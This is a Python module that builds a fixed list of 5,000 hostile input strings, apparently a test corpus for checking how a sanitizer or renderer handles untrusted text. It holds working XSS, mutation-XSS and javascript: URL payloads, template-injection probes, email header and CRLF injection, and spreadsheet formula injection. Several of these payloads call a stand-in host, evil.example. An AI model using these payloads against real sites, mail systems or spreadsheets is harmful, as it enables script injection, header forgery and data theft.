"""Five thousand strings that try to be more than text, made by rule: the same ones on every run."""

from collections.abc import Iterator
from itertools import cycle, islice, product

COUNT = 5_000

_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\t>alert(1)</script\n>", "<script/x>alert(1)</script>", "<script x=\">\">alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<script>alert(1)",
    "<script src=//evil.example/x", "<script\x00>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script type=module>import('//evil.example')</script>", "<script type=text/vbscript>MsgBox 1</script>",
    "<script><!--\nalert(1)\n--></script>", "<!--><script>alert(1)</script>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</p></div></article><script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
)  # fmt: skip
_TAGS = (
    "img", "a", "p", "body", "svg", "math", "video", "audio", "input", "details", "iframe", "form", "button", "marquee",
    "object", "embed", "table", "td", "b", "div", "select", "textarea", "isindex", "frameset", "xss",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onclick", "ONMOUSEOVER", "onfocus", "ontoggle", "onpointerrawupdate", "onanimationstart", "onbeforeinput",
    "oncontentvisibilityautostatechange", "on\x00error", "onerror\t", "onerror\n", "style=x onerror", "title='x'onerror", "\u00a0onerror",
)  # fmt: skip
_HOLDS = ("<{tag} src=x {name}=alert(1)>x</{tag}>", "<{tag}/src=x/{name}='alert(1)'>", "<{tag} {name}=`alert(1)` x", "<{tag}\n{name}\n=\n\"alert(1)\" autofocus tabindex=1>")  # fmt: skip
_URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\r\nscript:alert(1)", "java\x00script:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)", "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
    "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#10;script:alert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "javascript://paper.example/%0aalert(1)", "//javascript:alert(1)", "vbscript:MsgBox(1)", "VBSCRIPT:x", "livescript:x", "mocha:x",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>",
    "da\tta:text/html,x", "file:///etc/passwd", "blob:https://evil.example/1", "view-source:javascript:alert(1)", "jar:https://evil.example!/x",
    "feed:javascript:alert(1)", "jav&#x09;ascript:alert(1)", "\u2028javascript:alert(1)", "\u202ejavascript:alert(1)", "ｊavascript:alert(1)",
    "http://[::1", "https://evil.example\\@paper.example/", "https://evil.example/\r\nSet-Cookie: a=b", "mailto:a@paper.example?subject=x%0d%0aBcc:b@evil.example",
)  # fmt: skip
_PLACES = (
    '<a href="{}">x</a>', "<a href={}>x</a>", "<a href='{}'>x</a>", '<img src="{}">', '<img srcset="{} 2x">', '<img data-src="{}">',
    '<iframe src="{}"></iframe>', '<iframe srcdoc="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">', '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>', '<base href="{}"><a href="x">y</a>', '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}"><mi>x</mi></math>', '<video poster="{}" src="{}"></video>', '<area href="{}">',
    '<blockquote cite="{}">x</blockquote>', '<body background="{}">', '<table background="{}"><td>x</td></table>', '<amp-iframe src="{}"></amp-iframe>',
    '<blockquote class="instagram-media" data-instgrm-permalink="{}"></blockquote>', '<noscript><img src="{}"></noscript>', "[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]",
    '{{{{< figure src="{}" >}}}}', '{{% youtube {} %}}', "{}",
)  # fmt: skip
_MUTATIONS = (
    "<svg></p><style><a title=\"</style><img src=x onerror={0}>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={0}&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={0}></style></annotation-xml></math>", "<svg><foreignObject><p><style><img src=x onerror={0}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>", "<noscript><style></noscript><img src=x onerror={0}></style>",
    "<svg><desc><table><thead><s></table></s><noscript><a title=\"</noscript><img src=x onerror={0}>\">", "<template><s><template><s><img src=x onerror={0}></template>",
    "<select><template><script>{0}</script></template></select>", "<xmp><p title=\"</xmp><img src=x onerror={0}>\">", "<title><p title=\"</title><img src=x onerror={0}>\">",
    "<iframe><p title=\"</iframe><img src=x onerror={0}>\">", "<noembed><p title=\"</noembed><img src=x onerror={0}>\">", "<plaintext><img src=x onerror={0}>",
    "<svg><script>{0}</script></svg>", "<svg><script href=data:,{0} />", "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload={0}>#x\"/>",
    "<svg><set attributeName=onmouseover to={0}>", "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=load>{0}</handler></svg>",
    "<table><tbody><script>{0}</script><caption><img src=x onerror={0}>", "<p><a href=\"x\" title='<img src=x onerror={0}>'>y</a>", "<a title=\"`<img src=x onerror={0}>\">x</a>",
    "<img alt=\"<x\" title=\"/><img src=x onerror={0}>\">", "<p>&lt;img src=x onerror={0}&gt;</p>", "<p>&amp;lt;img src=x onerror={0}&amp;gt;</p>", "&amp;amp;lt;script&amp;amp;gt;{0}&amp;amp;lt;/script&amp;amp;gt;",
    "<details open ontoggle={0}><summary onclick={0}>x</summary></details>", "<dialog open onclose={0}><form method=dialog><button>x</button></form></dialog>", "<marquee onstart={0}>x</marquee>",
    "<style>@import '//evil.example/x.css';</style>", "<p style=\"background:url(javascript:{0})\">x</p>", "<p style=\"width:expression({0})\">x</p>", "<p style='-moz-binding:url(//evil.example/x.xml)'>x</p>",
    "<style>body{{background:url(\"javascript:{0}\")}}</style>", "<p style=\"behavior:url(//evil.example/x.htc)\">x</p>", "<div style=\"position:fixed;inset:0;z-index:9\">x</div>", "<link rel=import href=//evil.example>",
    "<meta charset=utf-7>+ADw-script+AD4-{0}+ADw-/script+AD4-", "<a href=x style=\"x:&#x65;xpression({0})\">y</a>", "<img src=1 lowsrc=x dynsrc=x onerror={0} usemap=#m><map name=m><area href=javascript:{0}></map>",
)  # fmt: skip
_CALLS = ("alert(1)", "alert`1`", "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "fetch('//evil.example')")  # fmt: skip
_EXPRESSIONS = (
    "{{ 7 * 7 }}", "{{7*'7'}}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include 'styles.css' %}",
    "{% for x in range(9**9) %}x{% endfor %}", "{% set x = 1 %}", "{# gone #}", "{% raw %}", "{% endraw %}{{ 7 * 7 }}", "{{ content.subject }}", "{{ slots.address }}", "{{", "}}", "{%", "%}", "{#",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "[[${7*7}]]", "%(address)s", "{address}", "{0.__class__}", "*|EMAIL|*", "[[email]]", "%%address%%", "<#assign x=1>", "qzSLOTNAMEzq", "qzSLOTADDRESSzq",
)  # fmt: skip
_AROUND = ("{}", "x{}y", "<p>{}</p>", "<b>{}", '<a href="{}">x</a>', "&lbrace;{}", "{}\n{}", "<img alt='{}' src=/a.png>")  # fmt: skip
_BREAKS = (
    "\r\n", "\n", "\r", "\n\n", "\r\n ", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "%0d%0a", "%0a", "\\r\\n", "&#13;&#10;", "&#x0d;&#x0a;", "&NewLine;", "&#8232;", "&#x85;", "%E5%98%8A%E5%98%8D", "=?utf-8?q?=0d=0a?=",
)  # fmt: skip
_HEADERS = (
    "Bcc: victim@evil.example", "Subject: changed", "Content-Type: text/html", "To: a@evil.example", "\r\n<script>alert(1)</script>", ".\r\nMAIL FROM:<a@evil.example>", "List-Unsubscribe: <javascript:x>",
    "Set-Cookie: a=b", "From evil@evil.example", "--=_boundary", "DKIM-Signature: v=1", "X: y",
)  # fmt: skip
_FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example")', "＝1+1", " =1+1", '"=1+1', "=IMPORTXML(A1)", "%=1+1", "|=1+1")  # fmt: skip
_REFERENCES = ("&#{0};", "&#x{0:x};", "&#{0:07d};", "&#X{0:X}", "{char}", "<p>&#{0};</p>", "<a href='/&#{0};x'>y</a>", "a{char}b")  # fmt: skip
_CONTROLS = (
    *range(32), *range(0x7F, 0xA0), 0x61C, 0x200E, 0x200F, *range(0x2028, 0x202F), *range(0x2066, 0x2070), 0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB, 0xD800, 0xDFFF, 0xFFFE,
    0xE0041, 0xE0001,
)  # fmt: skip


def hostile_strings() -> list[str]:
    """Return the strings, taken from each family in turn so that any stretch holds every kind."""
    families = [list(dict.fromkeys(family())) for family in _FAMILIES]
    turns = islice(cycle(families), COUNT * len(families) * 4)
    found: dict[str, None] = {}
    readers = {id(family): iter(family) for family in families}
    for family in turns:
        if len(found) == COUNT:
            break
        if (text := next(readers[id(family)], None)) is not None:
            found[text] = None
    return list(found)


def _scripts() -> Iterator[str]:
    around = ("{}", "x {} y", "<p>{}</p>", "<b title='{}'>x</b>", "<!-- {} -->", "<p>x{}", "{}{}", "<li>{}", "&lt;p&gt;{}", "**{}**", "`{}`", "> {}", "    {}", "# {}")  # fmt: skip
    return (form.replace("{}", script) for script, form in product(_SCRIPTS, around))


def _handlers() -> Iterator[str]:
    return (hold.format(tag=tag, name=name) for tag, name, hold in product(_TAGS, _HANDLERS, _HOLDS))


def _urls() -> Iterator[str]:
    return (place.replace("{}", url) for url, place in product(_URLS, _PLACES))


def _mutations() -> Iterator[str]:
    around = ("{}", "<div>{}</div>", "x{}", "<p>{}")
    return (form.replace("{}", one.format(call)) for one, call, form in product(_MUTATIONS, _CALLS, around))


def _expressions() -> Iterator[str]:
    return (form.replace("{}", one) for one, form in product(_EXPRESSIONS, _AROUND))


def _breaks() -> Iterator[str]:
    return (f"Bridge{brk}{header}" for brk, header in product(_BREAKS, _HEADERS))


def _controls() -> Iterator[str]:
    for code, form in product(_CONTROLS, _REFERENCES):
        yield form.format(code, char=chr(code))


def _formulas() -> Iterator[str]:
    around = ("{}", "<p>{}</p>", "{},{}", "&#61;{}", "\ufeff{}", "\u200b{}")
    return (form.replace("{}", one) for one, form in product(_FORMULAS, around))


_FAMILIES = (_scripts, _handlers, _urls, _mutations, _expressions, _breaks, _controls, _formulas)
